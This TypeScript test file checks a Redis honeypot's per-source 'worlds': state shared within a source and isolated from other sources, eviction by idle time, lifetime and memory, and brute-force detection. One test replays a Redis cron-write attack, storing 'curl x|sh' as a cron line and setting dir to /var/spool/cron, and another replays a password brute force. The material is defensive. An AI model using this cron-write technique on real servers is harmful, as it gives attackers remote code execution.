/**
 * Worlds (src/honeypot/worlds.ts): a source's keyspace and server state, shared by its
 * connections, never seen by another source, and bounded in number, idle time, lifetime and
 * memory — on the registry itself and on the shipped server.
 */
import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, test } from "node:test";
import { type MemoryAccount, MemoryBudget } from "../src/honeypot/memory.js";
import { persona } from "../src/honeypot/personas/index.js";
import { type WorldEntry, Worlds } from "../src/honeypot/worlds.js";
import { buildHoneypotReport } from "../src/report/honeypot.js";
import { encodeCommand } from "../src/resp/index.js";
import type { HoneypotEventRow, HoneypotSessionRow } from "../src/schema/honeypot.js";
import { openStore } from "../src/store/index.js";
import { RespConnection, servePersona } from "./helpers/honeypot-server.js";

interface Plain extends WorldEntry {
  name: string;
}

const plain =
  (name: string) =>
  (account: MemoryAccount | undefined, now: number): Plain => ({
    name,
    connections: 0,
    lastSeen: now,
    createdAt: now,
    account,
  });

describe("the world registry", () => {
  test("one world per key, shared while held; at most maxWorlds kept, held ones never dropped", () => {
    const evicted: Plain[] = [];
    const worlds = new Worlds<Plain>(
      { maxWorlds: 2, idleMs: 1000, lifetimeMs: 10_000 },
      undefined,
      (w) => evicted.push(w),
    );
    const a = worlds.enter("a", 0, plain("a"));
    assert.equal(worlds.enter("a", 1, plain("a2")), a, "a second connection shares it");
    assert.equal(a.connections, 2);
    const b = worlds.enter("b", 2, plain("b"));
    // Both held: a third is made all the same (held worlds are bounded by the sessions).
    const c = worlds.enter("c", 3, plain("c"));
    assert.equal(worlds.size, 3);
    worlds.leave(b, 4);
    worlds.leave(c, 5);
    // Room for d: the worlds nobody holds go, least recently entered first (b, then c); a stays.
    worlds.enter("d", 6, plain("d"));
    assert.equal(worlds.size, 2);
    assert.notEqual(worlds.enter("b", 7, plain("b2")), b, "b was forgotten");
    assert.equal(worlds.enter("a", 8, plain("a3")), a);
    assert.deepEqual(evicted, [], "nothing was evicted for memory");
  });

  test("forgotten after idle and after its lifetime, never while a connection holds it", () => {
    const worlds = new Worlds<Plain>(
      { maxWorlds: 10, idleMs: 100, lifetimeMs: 1000 },
      undefined,
      () => {},
    );
    const a = worlds.enter("a", 0, plain("a"));
    worlds.leave(a, 50);
    assert.equal(worlds.enter("a", 149, plain("x")), a, "idle for less than idleMs");
    worlds.leave(a, 150);
    worlds.sweep(250);
    assert.equal(worlds.size, 0, "the sweep forgets it once idle for idleMs");
    const b = worlds.enter("b", 300, plain("b"));
    worlds.sweep(5000);
    assert.equal(worlds.enter("b", 5000, plain("y")), b, "held past its lifetime: kept");
    worlds.leave(b, 5001);
    worlds.leave(b, 5001);
    assert.notEqual(worlds.enter("b", 5002, plain("z")), b, "past its lifetime once let go");
  });

  test("its memory comes from the budget; the largest world is forgotten when it runs short", () => {
    const budget = new MemoryBudget(1000);
    const evicted: string[] = [];
    const worlds = new Worlds<Plain>(
      { maxWorlds: 10, idleMs: 1000, lifetimeMs: 10_000 },
      { budget, share: 600 },
      (w) => evicted.push(w.name),
    );
    const a = worlds.enter("a", 0, plain("a"));
    const b = worlds.enter("b", 0, plain("b"));
    assert.ok(a.account!.take(500));
    assert.ok(!a.account!.take(200), "past its share");
    assert.ok(b.account!.take(300));
    const c = worlds.enter("c", 0, plain("c"));
    assert.ok(c.account!.take(400), "room made by forgetting a");
    assert.deepEqual(evicted, ["a"]);
    assert.equal(budget.used, 700);
    assert.notEqual(worlds.enter("a", 1, plain("a2")), a);
    worlds.leave(b, 2);
    worlds.leave(c, 2);
    worlds.sweep(5000);
    assert.equal(budget.used, 0, "forgotten worlds give their memory back");
  });
});

describe("worlds on the shipped server", () => {
  test("a source's connections share one server; others never see it", async () => {
    // 6.2: CONFIG SET dir is allowed (7.0 protects it).
    const srv = await servePersona(persona("redis-6.2-open"));
    const open = (from: string) => RespConnection.open(srv.port, "127.0.0.1", from);
    const a1 = await open("127.0.0.1");
    const stranger = await open("127.0.1.1");
    try {
      const send = async (c: RespConnection, ...args: string[]) =>
        (await c.send(encodeCommand(args))).toString("latin1");
      assert.equal(await send(a1, "SET", "payload", "*/1 * * * * curl x|sh"), "+OK\r\n");
      assert.equal(await send(a1, "CONFIG", "SET", "dir", "/var/spool/cron"), "+OK\r\n");
      assert.equal(
        await send(a1, "SCRIPT", "LOAD", "return 1"),
        "$40\r\ne0e1f9fabfc9d4800c877a703b823ac0578ff8db\r\n",
      );
      a1.close();
      // The next connection of the source, after the first has gone.
      const a2 = await open("127.0.0.2");
      assert.equal(await send(a2, "GET", "payload"), "$21\r\n*/1 * * * * curl x|sh\r\n");
      assert.equal(
        await send(a2, "CONFIG", "GET", "dir"),
        "*2\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n",
      );
      assert.equal(
        await send(a2, "SCRIPT", "EXISTS", "e0e1f9fabfc9d4800c877a703b823ac0578ff8db"),
        "*1\r\n:1\r\n",
      );
      assert.match(await send(a2, "INFO", "persistence"), /rdb_changes_since_last_save:1\r\n/);
      a2.close();
      assert.equal(await send(stranger, "GET", "payload"), "$-1\r\n");
      assert.equal(await send(stranger, "DBSIZE"), ":0\r\n");
      assert.equal(
        await send(stranger, "CONFIG", "GET", "dir"),
        "*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n",
      );
    } finally {
      a1.close();
      stranger.close();
      await srv.close();
    }
  });

  test("PUBLISH reaches the source's subscribed connections, never another source's", async () => {
    const srv = await servePersona(persona("redis-7.0-open"));
    const sub = await RespConnection.open(srv.port);
    const pub = await RespConnection.open(srv.port);
    const stranger = await RespConnection.open(srv.port, "127.0.0.1", "127.0.1.1");
    try {
      await sub.send(encodeCommand(["SUBSCRIBE", "ch"]));
      await sub.send(encodeCommand(["PSUBSCRIBE", "c*"]));
      assert.equal(
        (await stranger.send(encodeCommand(["PUBLISH", "ch", "x"]))).toString(),
        ":0\r\n",
      );
      assert.equal((await pub.send(encodeCommand(["PUBLISH", "ch", "hi"]))).toString(), ":2\r\n");
      assert.equal(
        (await sub.send(Buffer.alloc(0), 2)).toString(),
        "*3\r\n$7\r\nmessage\r\n$2\r\nch\r\n$2\r\nhi\r\n" +
          "*4\r\n$8\r\npmessage\r\n$2\r\nc*\r\n$2\r\nch\r\n$2\r\nhi\r\n",
      );
    } finally {
      sub.close();
      pub.close();
      stranger.close();
      await srv.close();
    }
  });

  test("forgotten once idle: worldIdleMs 0 gives every new connection a fresh server", async () => {
    const srv = await servePersona(persona("redis-7.0-open"), { serverLimits: { worldIdleMs: 0 } });
    try {
      const c1 = await RespConnection.open(srv.port);
      await c1.send(encodeCommand(["SET", "k", "v"]));
      const c2 = await RespConnection.open(srv.port);
      assert.equal(
        (await c2.send(encodeCommand(["GET", "k"]))).toString(),
        "$1\r\nv\r\n",
        "held by c1",
      );
      c1.close();
      c2.close();
      await srv.recorder.ended(2);
      const c3 = await RespConnection.open(srv.port);
      assert.equal((await c3.send(encodeCommand(["GET", "k"]))).toString(), "$-1\r\n");
      c3.close();
    } finally {
      await srv.close();
    }
  });

  test("when the memory budget runs short, the largest world is forgotten and its connections cut", async () => {
    const memory = new MemoryBudget(2_000_000);
    const srv = await servePersona(persona("redis-7.0-open"), { memory });
    const conns: RespConnection[] = [];
    try {
      const value = "v".repeat(60_000);
      let cut: RespConnection | undefined;
      let cutFrom: string | undefined;
      const from: string[] = [];
      // Each source holds about 180 KB of a 250 KB share; the 2 MB budget runs out on the way.
      for (let i = 1; i <= 16 && cut === undefined; i++) {
        const c = await RespConnection.open(srv.port, "127.0.0.1", `127.0.${i}.1`);
        conns.push(c);
        from.push(`127.0.${i}.1`);
        for (let k = 0; k < 3; k++) await c.send(encodeCommand(["SET", `k${k}`, value]));
        const at = conns.findIndex((x) => x.closed);
        if (at >= 0) {
          cut = conns[at];
          cutFrom = from[at];
        }
      }
      assert.ok(cut !== undefined, "a world was evicted and its connection closed");
      await srv.recorder.ended(1);
      const limits = (): Array<Record<string, unknown>> =>
        srv.recorder.rows.flatMap((r) =>
          r.kind === "event" && (r.row as HoneypotEventRow).kind === "limit"
            ? [(r.row as HoneypotEventRow).record]
            : [],
        );
      const recorded = limits();
      assert.ok(recorded.length >= 1);
      assert.ok(
        recorded.every((r) => r.limit === "memory"),
        "each connection cut is recorded as a memory limit",
      );
      // The source's next connection finds a fresh server.
      const again = await RespConnection.open(srv.port, "127.0.0.1", cutFrom!);
      conns.push(again);
      assert.equal((await again.send(encodeCommand(["DBSIZE"]))).toString(), ":0\r\n");
      assert.ok(memory.used <= memory.total);
    } finally {
      for (const c of conns) c.close();
      await srv.close();
    }
  });
});

describe("a source across its connections", () => {
  test("20 passwords, one per connection, is a brute force (T1110.001) in the report's class table", async () => {
    const srv = await servePersona(persona("redis-7.4-password"));
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "redscope-brute-"));
    try {
      for (let i = 0; i < 20; i++) {
        const c = await RespConnection.open(srv.port);
        const reply = (await c.send(encodeCommand(["AUTH", `password${i}`]))).toString();
        assert.match(reply, /^-WRONGPASS/);
        c.close();
      }
      await srv.recorder.ended(20);
      const rows = srv.recorder.rows
        .filter((r) => r.kind === "session" && r.final)
        .map((r) => r.row as HoneypotSessionRow);
      const brute = rows.filter((r) => r.classes.split(",").includes("bruteforce"));
      // From the third try on, the source has made a brute force of it.
      assert.equal(brute.length, 18);
      const store = await openStore(path.join(dir, "hp.db"));
      try {
        await store.upsertHoneypotSessions(rows);
        const report = await buildHoneypotReport(store);
        const row = report.classes.find((c) => c.class === "bruteforce");
        assert.deepEqual(row, {
          class: "bruteforce",
          attack: "T1110.001",
          sessions: 18,
          sources: 1,
        });
      } finally {
        await store.close();
      }
    } finally {
      await srv.close();
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
